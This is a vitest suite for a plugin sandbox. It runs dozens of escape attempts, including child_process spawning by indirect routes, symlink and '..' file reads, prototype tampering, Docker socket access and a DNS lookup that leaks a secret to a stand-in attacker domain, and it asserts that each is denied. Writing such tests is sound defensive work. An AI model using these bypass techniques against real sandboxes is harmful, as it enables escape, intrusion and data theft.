import { createSocket, type Socket } from 'node:dgram';
import { closeSync, existsSync, mkdirSync, openSync, symlinkSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { PluginError, type PluginPermissions } from '@agentplug/models';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { PermissionEvent, PluginHost } from '../host/plugin-host';
import { createIsolatedPluginHarness, waitFor } from './__fixtures__/isolated-plugin-harness';

// Each attempt is its own plugin in its own worker. The plugin declares unrelated permissions
// (a host, a folder, a variable), so the denials are about the target, not an empty manifest.
// A real loopback HTTP server and UDP socket count what arrives: every attempt must leave them at
// zero, the spawn marker absent, the plugin's other methods working, and a sentinel plugin and
// the host process untouched.

const harness = createIsolatedPluginHarness();
let sentinel: PluginHost;
let server: Server;
let udp: Socket;
const arrived = { connections: 0, requests: [] as string[], datagrams: 0 };
let context: Record<string, unknown>;
let hostFd: number;

beforeAll(async () => {
  ({ host: sentinel } = await harness.startPlugin({
    files: { 'main.mjs': 'export class Plugin { ping() { return "pong"; } }' },
  }));
  server = createServer((request, response) => {
    arrived.requests.push(request.url ?? '');
    if (request.url === '/redirect') {
      const { port } = server.address() as AddressInfo;
      response.writeHead(302, { location: `http://localhost:${port}/landed` }).end();
      return;
    }
    response.end('ok');
  });
  server.on('connection', () => {
    arrived.connections += 1;
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  udp = createSocket('udp4');
  udp.on('message', () => {
    arrived.datagrams += 1;
  });
  await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve));
  const declared = join(harness.root, 'declared');
  const writable = join(harness.root, 'writable');
  mkdirSync(declared, { recursive: true });
  mkdirSync(writable, { recursive: true });
  const secret = join(harness.root, 'secret.txt');
  writeFileSync(secret, 'the host secret');
  writeFileSync(join(declared, 'inside.txt'), 'inside');
  symlinkSync(secret, join(declared, 'link-to-secret'));
  symlinkSync(join(harness.root, 'created-through-link.txt'), join(writable, 'dangling'));
  writeFileSync(join(harness.root, 'outside.mjs'), 'export const stolen = true;');
  writeFileSync(join(harness.root, 'outside.cjs'), 'module.exports = { stolen: true };');
  writeFileSync(join(harness.root, 'outside.json'), '{ "stolen": true }');
  hostFd = openSync(secret, 'r');
  process.env.AGENTPLUG_TEST_SECRET = 'top secret';
  context = {
    port: (server.address() as AddressInfo).port,
    udpPort: (udp.address() as AddressInfo).port,
    root: harness.root,
    secret,
    declared,
    writable,
    marker: join(harness.root, 'spawned-marker'),
    hostFd,
  };
});

afterAll(async () => {
  closeSync(hostFd);
  delete process.env.AGENTPLUG_TEST_SECRET;
  await new Promise((resolve) => server.close(resolve));
  udp.close();
  await harness.cleanup();
});

const unrelatedPermissions: Partial<PluginPermissions> = {
  network_hosts: ['api.example.com'],
  environment_variables: ['AGENTPLUG_UNRELATED'],
};

function esm(body: string, imports = ''): Record<string, string> {
  return {
    'main.mjs': `${imports}
export class Plugin {
  constructor(metadata, config) { this.config = config; }
  ping() { return 'pong'; }
  async attempt() { const c = this.config; ${body} }
}`,
  };
}

function commonJs(body: string): Record<string, string> {
  return {
    'main.cjs': `module.exports.Plugin = class {
  constructor(metadata, config) { this.config = config; }
  ping() { return 'pong'; }
  async attempt() { const c = this.config; ${body} }
};`,
  };
}

interface EscapeAttempt {
  name: string;
  files: () => Record<string, string>;
  permissions?: () => Partial<PluginPermissions>;
  /** `load`: the entry module itself is refused; `call`: attempt() is. */
  stage: 'load' | 'call';
  /** The permission the error and the denied event name. */
  capability: string;
  /** A fragment of the message: what to add, or what was refused. */
  message: string;
}

const spawn = "cp.execSync('touch ' + c.marker)";
const attempts: EscapeAttempt[] = [
  {
    name: 'static import of child_process',
    files: () => esm('', 'import { execSync } from "node:child_process";'),
    stage: 'load',
    capability: 'builtin',
    message: 'node:child_process',
  },
  {
    name: 'dynamic import of child_process',
    files: () => esm(`const cp = await import('child_process'); ${spawn};`),
    stage: 'call',
    capability: 'builtin',
    message: 'node:child_process',
  },
  {
    name: 'require of child_process from CommonJS',
    files: () => commonJs(`const cp = require('node:child_process'); ${spawn};`),
    stage: 'call',
    capability: 'builtin',
    message: 'node:child_process',
  },
  {
    name: 'createRequire from node:module',
    files: () =>
      esm(
        `const { createRequire } = await import('node:module'); const cp = createRequire(import.meta.url)('child_process'); ${spawn};`,
      ),
    stage: 'call',
    capability: 'builtin',
    message: 'node:module',
  },
  {
    name: 'module.constructor.createRequire from CommonJS',
    files: () =>
      commonJs(`const cp = module.constructor.createRequire(__filename)('child_process'); ${spawn};`),
    stage: 'call',
    capability: 'builtin',
    message: 'node:child_process',
  },
  {
    name: "process.binding('spawn_sync')",
    files: () =>
      esm(`process.binding('spawn_sync').spawn({ file: 'touch', args: ['touch', c.marker], stdio: [] });`),
    stage: 'call',
    capability: 'builtin',
    message: 'process.binding',
  },
  {
    name: 'process._linkedBinding',
    files: () => esm(`process._linkedBinding('spawn_sync');`),
    stage: 'call',
    capability: 'builtin',
    message: 'process._linkedBinding',
  },
  {
    name: 'process.getBuiltinModule of child_process',
    files: () => esm(`const cp = process.getBuiltinModule('child_process'); ${spawn};`),
    stage: 'call',
    capability: 'builtin',
    message: 'node:child_process',
  },
  {
    name: 'eval to reach require from CommonJS',
    files: () => commonJs(`const cp = eval('require')('child_process'); ${spawn};`),
    stage: 'call',
    capability: 'builtin',
    message: 'node:child_process',
  },
  {
    name: 'indirect eval and Function to reach a module loader from ES modules',
    files: () =>
      esm(`if (new Function('return typeof require')() !== 'undefined') return 'require leaked';
const cp = await (0, eval)('import("node:child_process")'); ${spawn};`),
    stage: 'call',
    capability: 'builtin',
    message: 'node:child_process',
  },
  {
    name: 'loading a native addon with require',
    files: () => ({ ...commonJs(`require('./addon.node');`), 'addon.node': 'not really a shared object' }),
    stage: 'call',
    capability: 'native_addon',
    message: 'process.dlopen',
  },
  {
    name: 'process.dlopen directly',
    files: () => esm(`process.dlopen({ exports: {} }, c.secret);`),
    stage: 'call',
    capability: 'native_addon',
    message: 'process.dlopen',
  },
  ...['vm', 'worker_threads', 'inspector', 'cluster', 'v8', 'wasi', 'repl', 'trace_events'].map(
    (name): EscapeAttempt => ({
      name: `dynamic import of node:${name}`,
      files: () => esm(`await import('node:${name}');`),
      stage: 'call',
      capability: 'builtin',
      message: `node:${name}`,
    }),
  ),
  {
    name: 'reading an undeclared file',
    files: () => esm(`return fs.readFileSync(c.secret, 'utf8');`, 'import fs from "node:fs";'),
    permissions: () => ({ filesystem_read: [context.declared as string] }),
    stage: 'call',
    capability: 'filesystem_read',
    message: 'to permissions.filesystem_read',
  },
  {
    name: 'reading through a symlink out of a declared folder',
    files: () =>
      esm(
        `return readFileSync(c.declared + '/link-to-secret', 'utf8');`,
        'import { readFileSync } from "node:fs";',
      ),
    permissions: () => ({ filesystem_read: [context.declared as string] }),
    stage: 'call',
    capability: 'filesystem_read',
    message: 'to permissions.filesystem_read',
  },
  {
    name: 'reading with a .. escape from a declared folder',
    files: () =>
      esm(
        `return (await readFile(c.declared + '/../secret.txt')).toString();`,
        'import { readFile } from "node:fs/promises";',
      ),
    permissions: () => ({ filesystem_read: [context.declared as string] }),
    stage: 'call',
    capability: 'filesystem_read',
    message: 'to permissions.filesystem_read',
  },
  {
    name: 'reading an undeclared file with the callback API',
    files: () =>
      esm(
        `return await new Promise((resolve, reject) => fs.readFile(c.secret, (error, data) => (error ? reject(error) : resolve(String(data)))));`,
        'import fs from "node:fs";',
      ),
    stage: 'call',
    capability: 'filesystem_read',
    message: 'to permissions.filesystem_read',
  },
  {
    name: 'reading an undeclared file with a stream',
    files: () => esm(`fs.createReadStream(c.secret).resume();`, 'import fs from "node:fs";'),
    stage: 'call',
    capability: 'filesystem_read',
    message: 'to permissions.filesystem_read',
  },
  {
    name: "reading the host's open file descriptor",
    files: () =>
      esm(
        `const buffer = Buffer.alloc(64); fs.readSync(c.hostFd, buffer); return String(buffer);`,
        'import fs from "node:fs";',
      ),
    stage: 'call',
    capability: 'filesystem_read',
    message: `file descriptor`,
  },
  {
    name: 'importing a module outside the plugin folder',
    files: () => esm(`return (await import(c.root + '/outside.mjs')).stolen;`),
    stage: 'call',
    capability: 'filesystem_read',
    message: 'to permissions.filesystem_read',
  },
  {
    name: 'static import of a module outside the plugin folder',
    files: () => esm('', `import { stolen } from ${JSON.stringify(join(harness.root, 'outside.mjs'))};`),
    stage: 'load',
    capability: 'filesystem_read',
    message: 'to permissions.filesystem_read',
  },
  {
    name: 'requiring a file outside the plugin folder from CommonJS',
    files: () => commonJs(`return require(c.root + '/outside.cjs');`),
    stage: 'call',
    capability: 'filesystem_read',
    message: 'to permissions.filesystem_read',
  },
  {
    name: 'importing a JSON file outside the plugin folder',
    files: () => esm(`return (await import(c.root + '/outside.json', { with: { type: 'json' } })).default;`),
    stage: 'call',
    capability: 'filesystem_read',
    message: 'to permissions.filesystem_read',
  },
  {
    name: 'constructing fs.ReadStream directly',
    files: () =>
      esm(
        `return await new Promise((resolve, reject) => new fs.ReadStream(c.secret).on('error', reject).on('data', resolve));`,
        'import fs from "node:fs";',
      ),
    stage: 'call',
    capability: 'filesystem_read',
    message: 'to permissions.filesystem_read',
  },
  {
    name: 'copying an undeclared file into the declared write folder',
    files: () => esm(`fs.copyFileSync(c.secret, c.writable + '/copy.txt');`, 'import fs from "node:fs";'),
    permissions: () => ({ filesystem_write: [context.writable as string] }),
    stage: 'call',
    capability: 'filesystem_read',
    message: 'to permissions.filesystem_read',
  },
  {
    name: 'planting a symlink to an undeclared file in the declared write folder',
    files: () => esm(`fs.symlinkSync(c.secret, c.writable + '/planted');`, 'import fs from "node:fs";'),
    permissions: () => ({ filesystem_write: [context.writable as string] }),
    stage: 'call',
    capability: 'filesystem_read',
    message: 'to permissions.filesystem_read',
  },
  {
    name: 'writing outside the declared path',
    files: () => esm(`fs.writeFileSync(c.root + '/written-outside.txt', 'x');`, 'import fs from "node:fs";'),
    permissions: () => ({ filesystem_write: [context.writable as string] }),
    stage: 'call',
    capability: 'filesystem_write',
    message: 'to permissions.filesystem_write',
  },
  {
    name: 'writing through a dangling symlink in the declared write folder',
    files: () =>
      esm(`await fs.promises.writeFile(c.writable + '/dangling', 'x');`, 'import fs from "node:fs";'),
    permissions: () => ({ filesystem_write: [context.writable as string] }),
    stage: 'call',
    capability: 'filesystem_write',
    message: 'to permissions.filesystem_write',
  },
  {
    name: 'checks still hold after the plugin replaces String and Set methods',
    files: () =>
      esm(
        `String.prototype.startsWith = () => true; String.prototype.endsWith = () => true; Set.prototype.has = () => true;
return fs.readFileSync(c.secret, 'utf8');`,
        'import fs from "node:fs";',
      ),
    permissions: () => ({ filesystem_read: [context.declared as string] }),
    stage: 'call',
    capability: 'filesystem_read',
    message: 'to permissions.filesystem_read',
  },
  {
    name: 'checks still hold after the plugin replaces path and Stats methods',
    files: () =>
      esm(
        `path.resolve = () => c.writable + '/fine.txt'; path.relative = () => 'fine.txt'; fs.Stats.prototype.isSymbolicLink = () => false;
await fs.promises.writeFile(c.writable + '/dangling', 'x');`,
        'import fs from "node:fs"; import path from "node:path";',
      ),
    permissions: () => ({ filesystem_write: [context.writable as string] }),
    stage: 'call',
    capability: 'filesystem_write',
    message: 'to permissions.filesystem_write',
  },
  {
    name: 'fetch to an undeclared host',
    files: () => esm(`await fetch('http://127.0.0.1:' + c.port + '/fetch');`),
    stage: 'call',
    capability: 'network',
    message: 'add "127.0.0.1" to permissions.network_hosts',
  },
  {
    name: 'fetch through a redirect from a declared host to an undeclared one',
    files: () =>
      esm(
        `try { await fetch('http://127.0.0.1:' + c.port + '/redirect'); } catch (error) { throw error.cause ?? error; }`,
      ),
    permissions: () => ({ network_hosts: ['127.0.0.1'] }),
    stage: 'call',
    capability: 'network',
    message: 'add "localhost" to permissions.network_hosts',
  },
  {
    name: 'net.connect to an undeclared host',
    files: () => esm(`net.connect(c.port, '127.0.0.1');`, 'import net from "node:net";'),
    stage: 'call',
    capability: 'network',
    message: 'add "127.0.0.1" to permissions.network_hosts',
  },
  {
    name: 'a new net.Socket connecting to an undeclared host',
    files: () =>
      esm(`new Socket().connect({ port: c.port, host: '127.0.0.1' });`, 'import { Socket } from "node:net";'),
    stage: 'call',
    capability: 'network',
    message: 'add "127.0.0.1" to permissions.network_hosts',
  },
  {
    name: 'http.get to an undeclared host',
    files: () => esm(`http.get('http://127.0.0.1:' + c.port + '/http');`, 'import http from "node:http";'),
    stage: 'call',
    capability: 'network',
    message: 'add "127.0.0.1" to permissions.network_hosts',
  },
  {
    name: 'tls.connect to an undeclared host',
    files: () => esm(`tls.connect({ port: c.port, host: '127.0.0.1' });`, 'import tls from "node:tls";'),
    stage: 'call',
    capability: 'network',
    message: 'add "127.0.0.1" to permissions.network_hosts',
  },
  {
    name: 'http2.connect to an undeclared host',
    files: () => esm(`http2.connect('http://127.0.0.1:' + c.port);`, 'import http2 from "node:http2";'),
    stage: 'call',
    capability: 'network',
    message: 'add "127.0.0.1" to permissions.network_hosts',
  },
  {
    name: 'a UDP datagram to an undeclared host',
    files: () =>
      esm(
        `const socket = dgram.createSocket('udp4'); socket.send('leak', c.udpPort, '127.0.0.1');`,
        'import dgram from "node:dgram";',
      ),
    stage: 'call',
    capability: 'network',
    message: 'add "127.0.0.1" to permissions.network_hosts',
  },
  {
    name: 'a DNS lookup that would leak data in the name',
    files: () =>
      esm(`await dns.lookup('the-host-secret.attacker.invalid');`, 'import dns from "node:dns/promises";'),
    stage: 'call',
    capability: 'network',
    message: 'add "the-host-secret.attacker.invalid" to permissions.network_hosts',
  },
  {
    name: 'a custom lookup that maps a declared name to an undeclared address',
    files: () =>
      esm(
        `net.connect({ host: 'api.example.com', port: c.port, lookup: (host, options, callback) => callback(null, '127.0.0.1', 4) });`,
        'import net from "node:net";',
      ),
    stage: 'call',
    capability: 'network',
    message: 'own lookup function',
  },
  {
    name: 'choosing the DNS servers',
    files: () => esm(`dns.setServers(['127.0.0.1:' + c.udpPort]);`, 'import dns from "node:dns";'),
    stage: 'call',
    capability: 'network',
    message: 'choose DNS servers',
  },
  {
    name: 'connecting to a local socket',
    files: () => esm(`net.connect({ path: '/var/run/docker.sock' });`, 'import net from "node:net";'),
    stage: 'call',
    capability: 'network',
    message: 'local socket',
  },
  {
    name: "a socket over the host's file descriptor",
    files: () => esm(`new net.Socket({ fd: c.hostFd });`, 'import net from "node:net";'),
    stage: 'call',
    capability: 'network',
    message: 'existing descriptor',
  },
  {
    name: "net.connect over the host's file descriptor to a declared host",
    files: () =>
      esm(`net.connect({ fd: c.hostFd, host: 'localhost', port: c.port });`, 'import net from "node:net";'),
    permissions: () => ({ network_hosts: ['localhost'] }),
    stage: 'call',
    capability: 'network',
    message: 'existing descriptor',
  },
  {
    name: 'listening for connections',
    files: () => esm(`net.createServer().listen(0, '127.0.0.1');`, 'import net from "node:net";'),
    stage: 'call',
    capability: 'network',
    message: 'listen',
  },
  {
    name: 'signalling the host process',
    files: () => esm(`process.kill(process.pid, 'SIGTERM');`),
    stage: 'call',
    capability: 'process',
    message: 'process.kill',
  },
  {
    name: 'the diagnostic report',
    files: () => esm(`return process.report.getReport();`),
    stage: 'call',
    capability: 'builtin',
    message: 'process.report',
  },
  {
    name: 'a BroadcastChannel to other threads',
    files: () => esm(`new BroadcastChannel('agentplug-host').postMessage('hello');`),
    stage: 'call',
    capability: 'builtin',
    message: 'BroadcastChannel',
  },
];

async function expectNothingEscaped(events: PermissionEvent[], attempt: EscapeAttempt): Promise<void> {
  await waitFor(() => events.some((event) => !event.allowed && event.capability === attempt.capability));
  expect(arrived.connections).toBe(0);
  expect(arrived.datagrams).toBe(0);
  expect(existsSync(context.marker as string)).toBe(false);
  expect(existsSync(join(harness.root, 'written-outside.txt'))).toBe(false);
  expect(existsSync(join(harness.root, 'created-through-link.txt'))).toBe(false);
  expect(existsSync(join(context.writable as string, 'copy.txt'))).toBe(false);
  expect(existsSync(join(context.writable as string, 'planted'))).toBe(false);
  expect(await sentinel.call('ping', [])).toBe('pong');
}

describe('escape suite', () => {
  it(`covers at least 25 attempts (${attempts.length})`, () => {
    expect(attempts.length).toBeGreaterThanOrEqual(25);
  });

  for (const attempt of attempts) {
    it(`denies ${attempt.name}`, async () => {
      arrived.connections = 0;
      arrived.requests = [];
      const options = {
        files: attempt.files(),
        permissions: { ...unrelatedPermissions, ...attempt.permissions?.() },
        config: context,
      };
      if (attempt.stage === 'load') {
        const { error, events } = await harness.failToStart(options);
        expect(PluginError.is(error, 'PERMISSION_DENIED')).toBe(true);
        expect((error as Error).message).toContain(attempt.message);
        await expectNothingEscaped(events, attempt);
        return;
      }
      const { host, events, crashes, pluginId } = await harness.startPlugin(options);
      const error = await host.call('attempt', []).then(
        (value) => new Error(`the attempt succeeded and returned ${JSON.stringify(value)}`),
        (caught: unknown) => caught,
      );
      expect(PluginError.is(error, 'PERMISSION_DENIED'), String(error)).toBe(true);
      expect((error as PluginError).message).toContain(attempt.message);
      expect((error as PluginError).message).toContain(pluginId);
      expect((error as PluginError).details).toMatchObject({ pluginId, capability: attempt.capability });
      if (attempt.name.includes('redirect')) {
        // The declared host was reached once; the undeclared redirect target never was.
        expect(arrived.requests).toEqual(['/redirect']);
        arrived.connections = 0;
      }
      await expectNothingEscaped(events, attempt);
      expect(await host.call('ping', [])).toBe('pong');
      expect(crashes).toEqual([]);
    });
  }

  it('hides undeclared environment variables and reports the read', async () => {
    const { host, events } = await harness.startPlugin({
      files: esm(
        `return { value: process.env.AGENTPLUG_TEST_SECRET, keys: Object.keys(process.env), has: 'AGENTPLUG_TEST_SECRET' in process.env };`,
      ),
      permissions: unrelatedPermissions,
      config: context,
    });
    expect(await host.call('attempt', [])).toEqual({ value: undefined, keys: [], has: false });
    await waitFor(() =>
      events.some(
        (event) => event.capability === 'environment_variables' && event.target === 'AGENTPLUG_TEST_SECRET',
      ),
    );
    expect(events.find((event) => event.target === 'AGENTPLUG_TEST_SECRET')?.allowed).toBe(false);
  });

  it('offers no WebSocket route, or gates it when the runtime has one', async () => {
    // WebSocket is a global only behind --experimental-websocket in Node 20; when it exists the
    // guard checks its URL like fetch's, so either the route is absent or it is refused.
    const { host } = await harness.startPlugin({
      files: esm(
        `if (typeof WebSocket === 'undefined') return 'absent'; new WebSocket('ws://127.0.0.1:' + c.port);`,
      ),
      permissions: unrelatedPermissions,
      config: context,
    });
    const outcome = await host.call('attempt', []).catch((error: unknown) => error);
    if (outcome !== 'absent') expect(PluginError.is(outcome, 'PERMISSION_DENIED')).toBe(true);
    expect(arrived.connections).toBe(0);
  });
});
